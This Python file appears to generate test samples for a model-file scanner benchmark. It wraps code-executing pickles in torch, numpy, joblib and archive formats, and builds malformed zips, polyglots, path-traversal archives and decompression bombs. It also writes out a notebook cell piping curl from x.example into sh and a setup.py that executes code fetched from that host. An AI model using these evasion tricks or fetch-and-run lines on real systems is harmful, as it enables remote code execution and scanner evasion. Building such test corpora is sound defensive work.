"""Hostile containers: what hides a pickle, what lies about itself, and formats whose own features run code.

Everything is put together byte by byte around a pickle with a harmless argument, and never loaded.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

from benchmarks._artifact_pickles import (
    Sample,
    argument,
    by_global,
    by_global_2,
    by_stack,
    inside,
    short,
)

EVIL = by_stack("posix", "system", argument("0"))
OLD = by_global_2("builtins", "exec", argument("1"))
TEXT = by_global("subprocess", "getoutput", argument("0"))
UNKNOWN = by_stack("acme.tools", "shell", argument("0"))
PAYLOADS = {
    "system": EVIL,
    "exec": OLD,
    "text": TEXT,
    "unknown": UNKNOWN,
    "hidden": inside("runpy", "run_path", argument("2")),
}
GOOD = b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00}."
WHEN = (1980, 1, 1, 0, 0, 0)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, WHEN), data, method)
    return out.getvalue()


def tarred(*members: tuple[str, bytes], mode: str = "w") -> bytes:
    """Return a tar archive."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members:
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def torch_zip(data: bytes, root: str = "archive", method: int = zipfile.ZIP_STORED) -> bytes:
    """Return what ``torch.save`` writes, around a pickle."""
    weights = (f"{root}/data/0", bytes(64))
    return zipped((f"{root}/data.pkl", data), (f"{root}/version", b"3\n"), weights, method=method)


def array(descr: str, data: bytes, shape: str = "(1,)", version: int = 1) -> bytes:
    """Return an ``.npy`` file."""
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    length = struct.pack("<H" if version == 1 else "<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + length + header + data


def joblib_wrapped(data: bytes, code: str = "O8", shape: int = 1) -> bytes:
    """Return a joblib stream with one array, followed by ``data`` where the array's bytes stand."""
    dtype = short("numpy") + short("dtype") + b"\x93" + short(code) + b"\x89\x88\x87R"
    state = (
        b"}(" + short("subclass") + short("numpy") + short("ndarray") + b"\x93" + short("shape")
        + struct.pack("<cI", b"J", shape) + b"\x85" + short("order") + short("C") + short("dtype") + dtype
        + short("allow_mmap") + b"\x89" + short("numpy_array_alignment_bytes") + b"K\x10u"
    )  # fmt: skip
    wrapper = short("joblib.numpy_pickle") + short("NumpyArrayWrapper") + b"\x93)\x81" + state + b"b"
    return b"\x80\x04" + wrapper + data


def compressions(data: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield a stream in every compression that loaders open by themselves."""
    yield "gz", gzip.compress(data, mtime=0)
    yield "bz2", bz2.compress(data)
    yield "xz", lzma.compress(data)
    yield "lzma", lzma.compress(data, format=lzma.FORMAT_ALONE)
    for level in (0, 1, 6, 9):
        yield f"zlib{level}", zlib.compress(data, level)
    yield "two-gz-members", gzip.compress(b"", mtime=0) + gzip.compress(data, mtime=0)
    yield "gz-with-name", gzip_named(data)
    yield "gz-in-xz", lzma.compress(gzip.compress(data, mtime=0))
    yield "two-xz-streams", lzma.compress(data[:10]) + lzma.compress(data[10:])
    yield "lz4", b"\x04\x22\x4d\x18\x40\x40\xc0" + struct.pack("<I", len(data) | 0x80000000) + data + bytes(4)
    yield "cut-gz", gzip.compress(data, mtime=0)[:-6]
    yield "wrong-sum-gz", gzip.compress(data, mtime=0)[:-8] + bytes(8)


def gzip_named(data: bytes) -> bytes:
    """Return a gzip stream with a file name, a comment and an extra field."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(data) + packer.flush()
    head = b"\x1f\x8b\x08\x1c" + bytes(6) + b"\x04\x00abcdmodel.pkl\0note\0"
    return head + body + struct.pack("<II", zlib.crc32(data), len(data))


def compressed_files() -> Iterator[Sample]:
    """Yield compressed pickles, whatever they are called."""
    suffixes = (".pkl", ".joblib", ".pkl.gz", ".z", ".model", ".dat", ".pickle.xz")
    for index, (payload, data) in enumerate(PAYLOADS.items()):
        for place, (name, packed) in enumerate(compressions(data)):
            yield "compressed", f"{payload}-{name}{suffixes[(index + place) % len(suffixes)]}", packed


def torch_files() -> Iterator[Sample]:
    """Yield PyTorch's formats around a pickle."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    for payload, data in PAYLOADS.items():
        yield "torch", f"{payload}.pt", torch_zip(data)
        yield "torch", f"{payload}-deflated.pth", torch_zip(data, method=zipfile.ZIP_DEFLATED)
        yield "torch", f"{payload}-other-root.bin", torch_zip(data, "model_best")
        yield "torch", f"{payload}-old.pt", magic + GOOD + data + b"\x80\x02]."
        yield "torch", f"{payload}-old-keys.pt", magic + GOOD + GOOD + data
        yield "torch", f"{payload}-old-system.pt", magic + data + GOOD + b"\x80\x02]."
        scripted = (("m/data.pkl", GOOD), ("m/constants.pkl", data), ("m/code/__torch__.py", b"x = 1\n"))
        yield "torch", f"{payload}-constants.ptl", zipped(*scripted)
        yield "torch", f"{payload}-extra.pt", zipped(("m/data.pkl", GOOD), ("m/version", b"3"), ("m/extra/x.pkl", data))
        yield "torch", f"{payload}-in-data.pt", zipped(("m/data.pkl", GOOD), ("m/data/0", data), ("m/other.pkl", data))
        yield "torch", f"{payload}-upper-case.pt", zipped(("m/DATA.PKL", data), ("m/version", b"3"))
        yield "torch", f"{payload}-package.pt", zipped(("p/.data/version", b"6"), ("p/model/model.pkl", data))
        yield (
            "torch",
            f"{payload}-tar.tar",
            tarred(("pickle", data), ("tensors", b""), ("storages", b""), ("sys_info", GOOD)),
        )
        yield (
            "torch",
            f"{payload}.nemo",
            tarred(("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(data))),
        )
        yield "torch", f"{payload}-gz.nemo", tarred(("model_weights.ckpt", torch_zip(data)), mode="w:gz")


def numpy_files() -> Iterator[Sample]:
    """Yield NumPy's and joblib's formats around a pickle."""
    for payload, data in PAYLOADS.items():
        yield "numpy", f"{payload}.npy", array("'|O'", data)
        yield "numpy", f"{payload}-v2.npy", array("'|O'", data, version=2)
        yield "numpy", f"{payload}-v3.npy", array("'|O'", data, version=3)
        yield "numpy", f"{payload}-fields.npy", array("[('a', '<i4'), ('b', '|O')]", data)
        yield "numpy", f"{payload}-nested.npy", array("[('a', [('b', '|O')], (2,))]", data)
        yield "numpy", f"{payload}-behind.npy", array("'<f8'", bytes(8)) + data
        yield "numpy", f"{payload}-no-items.npy", array("'<f8'", data, shape="(0,)")
        yield "numpy", f"{payload}.npz", zipped(("a.npy", array("'<f8'", bytes(8))), ("b.npy", array("'|O'", data)))
        yield "numpy", f"{payload}-plain.npz", zipped(("a.npy", data))
        yield "numpy", f"{payload}-deflated.npz", zipped(("a.npy", array("'|O'", data)), method=zipfile.ZIP_DEFLATED)
        yield "joblib", f"{payload}-objects.joblib", joblib_wrapped(data + b".")
        yield "joblib", f"{payload}-behind-array.joblib", joblib_wrapped(b"\x08" + bytes(8) + bytes(8) + data[2:], "f8")
        yield "joblib", f"{payload}-in-array.joblib", joblib_wrapped(data.ljust(512, b"\0") + b".", "f8", 63)
        yield "joblib", f"{payload}-negative.joblib", joblib_wrapped(b"\x00" + data, "f8", 0x80000000)
        yield "joblib", f"{payload}-objects.joblib.z", zlib.compress(joblib_wrapped(data + b"."), 3)


def archive_files() -> Iterator[Sample]:
    """Yield archives of other kinds, and archives in archives."""
    for payload, data in PAYLOADS.items():
        named = (("README.md", b"a model\n"), ("weights/model.pkl", data))
        yield "archive", f"{payload}.zip", zipped(*named)
        yield "archive", f"{payload}-no-suffix.zip", zipped(("weights", data))
        yield "archive", f"{payload}-image.zip", zipped(("photo.png", data))
        for name, method in (("bz2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
            yield "archive", f"{payload}-{name}.zip", zipped(*named, method=method)
        yield "archive", f"{payload}-nested.zip", zipped(("inner.zip", zipped(*named)))
        yield "archive", f"{payload}-nested-thrice.zip", zipped(("b.zip", zipped(("a.pt", torch_zip(data)))))
        yield "archive", f"{payload}.tar", tarred(*named)
        for mode in ("gz", "bz2", "xz"):
            yield "archive", f"{payload}.tar.{mode}", tarred(*named, mode=f"w:{mode}")
        yield "archive", f"{payload}-zip-in.tar", tarred(("model.zip", zipped(*named)))
        yield "archive", f"{payload}-tar-in.zip", zipped(("model.tar.gz", tarred(*named, mode="w:gz")))
        yield "archive", f"{payload}.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + data
        yield "archive", f"{payload}.rar", b"Rar!\x1a\x07\x01\x00" + data
        yield "archive", f"{payload}.zst", b"\x28\xb5\x2f\xfd\x60" + struct.pack("<H", len(data)) + data
    yield "archive", "traversal.tar", tarred(("../../.bashrc", b"true\n"))
    yield "archive", "absolute.tar", tarred(("/etc/profile.d/x.sh", b"true\n"))
    yield "archive", "traversal.zip", zipped(("../../.ssh/authorized_keys", b"x\n"))
    yield "archive", "backslash.zip", zipped(("..\\..\\x.py", b"x = 1\n"))
    yield "archive", "link.tar", _linked(tarfile.SYMTYPE, "/etc/passwd")
    yield "archive", "hard-link.tar", _linked(tarfile.LNKTYPE, "../../secret")
    yield "archive", "device.tar", _linked(tarfile.CHRTYPE, "")
    code = b"import os\nos.system('true')\n"
    cell: dict[str, Any] = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    book = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [{**cell, "source": "!curl x.example | sh"}]}
    yield "archive", "script.zip", zipped(("load.py", b"import pickle\npickle.load(open('x', 'rb'))\n"))
    yield "archive", "notebook.tar", tarred(("start.ipynb", json.dumps(book).encode()))
    yield (
        "archive",
        "wheel.zip",
        zipped(("setup.py", code + b"exec(__import__('urllib.request').request.urlopen('http://x.example').read())")),
    )


def _linked(kind: bytes, target: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("model.pkl")
        entry.type, entry.linkname = kind, target
        archive.addfile(entry)
    return out.getvalue()


def lying_files() -> Iterator[Sample]:
    """Yield zip archives that say two things, and files that are two files."""
    for payload, data in PAYLOADS.items():
        plain = torch_zip(data)
        lies = {
            "crc": _patched(plain, b"PK\x01\x02", 16, b"\xff\xff\xff\xff"),
            "local-crc": _patched(plain, b"PK\x03\x04", 14, b"\xff\xff\xff\xff"),
            "encrypted": _patched(plain, b"PK\x01\x02", 8, b"\x01\x00"),
            "local-encrypted": _patched(plain, b"PK\x03\x04", 6, b"\x01\x00"),
            "method": _patched(plain, b"PK\x01\x02", 10, b"\x08\x00"),
            "unknown-method": _patched(_patched(plain, b"PK\x01\x02", 10, b"\x63\x00"), b"PK\x03\x04", 8, b"\x63\x00"),
            "local-name": plain.replace(b"archive/data.pkl", b"archive/text.txt", 1),
            "central-name": b"archive/text.txt".join(plain.rsplit(b"archive/data.pkl", 1)),
            "size": _patched(plain, b"PK\x01\x02", 24, b"\x01\x00\x00\x00"),
            "prefix": b"#!/bin/sh\n" + plain,
            "pickle-prefix": GOOD + plain,
            "pickle-and-zip": data + plain,
            "zip-then-pickle": plain + data,
            "comment": plain[:-2] + struct.pack("<H", len(data)) + data,
            "two-directories": plain + torch_zip(GOOD),
            "two-directories-back": torch_zip(GOOD) + plain,
            "duplicate": _twice("archive/data.pkl", GOOD, data),
            "duplicate-back": _twice("archive/data.pkl", data, GOOD),
            "case": zipped(("archive/data.pkl", GOOD), ("archive/Data.pkl", data)),
            "slashes": zipped(("archive/data.pkl", GOOD), ("archive//data.pkl", data)),
            "dots": zipped(("archive/data.pkl", GOOD), ("archive/./data.pkl", data)),
            "gap": _gap(data),
            "cut-end": plain[:-10],
            "no-directory": plain[: plain.index(b"PK\x01\x02")],
            "zip-64": _patched(plain, b"PK\x05\x06", 16, b"\xff\xff\xff\xff"),
            "entries": _patched(plain, b"PK\x05\x06", 8, b"\x01\x00\x01\x00"),
        }
        for name, content in lies.items():
            yield "lie", f"{payload}-{name}.pt", content


def _patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def _twice(name: str, first: bytes, second: bytes) -> bytes:
    """Two members of one name."""
    plain = zipped((name, first), (name[:-1] + "_", second), ("archive/version", b"3\n"))
    return plain.replace(name[:-1].encode() + b"_", name.encode())


def _gap(data: bytes) -> bytes:
    """Return an archive with a member that no directory names."""
    whole = zipped(("archive/version", b"3\n"), ("archive/data.pkl", GOOD), ("archive/other.pkl", data))
    directory = whole.index(b"PK\x01\x02")
    last = whole.rindex(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    kept = whole[:directory] + whole[directory:last]
    return kept + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, last - directory, directory, 0) + whole[end + 22 :]


def polyglot_files() -> Iterator[Sample]:
    """Yield pickles behind and inside the bytes of other formats, and under other formats' names."""
    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    tensors = struct.pack("<Q", len(header)) + header + bytes(4)
    for payload, data in PAYLOADS.items():
        for suffix in (".safetensors", ".txt", ".csv", ".json", ".npy", ".h5", ".onnx", ".png", ".parquet", ""):
            yield "wrong-name", f"{payload}-plain{suffix}", data
        yield "polyglot", f"{payload}-behind.safetensors", tensors + data
        yield "polyglot", f"{payload}-header.safetensors", struct.pack("<Q", 1 << 40) + data
        yield "polyglot", f"{payload}-behind-png.png", b"\x89PNG\r\n\x1a\n" + bytes(32) + data
        yield "polyglot", f"{payload}-behind-hdf.h5", b"\x89HDF\r\n\x1a\n" + bytes(88) + data
        yield "polyglot", f"{payload}-behind-gguf.gguf", b"GGUF\x03\x00\x00\x00" + bytes(16) + data
        yield "polyglot", f"{payload}-string-then.pkl", b"\x80\x04" + short("PK\x03\x04") + b"0" + data[2:]
        yield "polyglot", f"{payload}-npy-then-zip.npy", array("'<f8'", bytes(8)) + torch_zip(data)


def bomb_files() -> Iterator[Sample]:
    """Yield files that are small on the disk and large in the memory, or endless."""
    zeros = bytes(1 << 24)
    yield "bomb", "zeros.pkl.gz", gzip.compress(b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + zeros * 8, mtime=0)
    yield "bomb", "nested.gz", gzip.compress(gzip.compress(gzip.compress(zeros * 8, mtime=0), mtime=0), mtime=0)
    yield "bomb", "text.pkl.bz2", bz2.compress(b"\x80\x04" + b"N0" * (1 << 24) + EVIL[2:])
    yield "bomb", "many-members.zip", zipped(*((f"{i}.pkl", GOOD) for i in range(30_000)), ("z.pkl", EVIL))
    yield (
        "bomb",
        "big-member.npz",
        zipped(
            ("a.npy", array("'<f8'", zeros * 8, f"({1 << 24},)")),
            ("b.npy", array("'|O'", EVIL)),
            method=zipfile.ZIP_DEFLATED,
        ),
    )
    yield "bomb", "length.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + EVIL
    yield (
        "bomb",
        "memo.pkl",
        b"\x80\x04" + b"".join(b"Nr" + struct.pack("<I", i) + b"0" for i in range(400_000)) + EVIL[2:],
    )
    yield "bomb", "marks.pkl", b"\x80\x04" + b"(" * 3_000_000 + EVIL[2:]
    yield "bomb", "number.pkl", b"I" + b"9" * 4_000_000 + b"\n0" + TEXT
    yield "bomb", "shape.npy", array("'<f8'", EVIL, shape=f"({1 << 62}, {1 << 62})")
    deep = GOOD
    for _ in range(40):
        deep = zipped(("a.zip", deep))
    yield "bomb", "deep.zip", deep
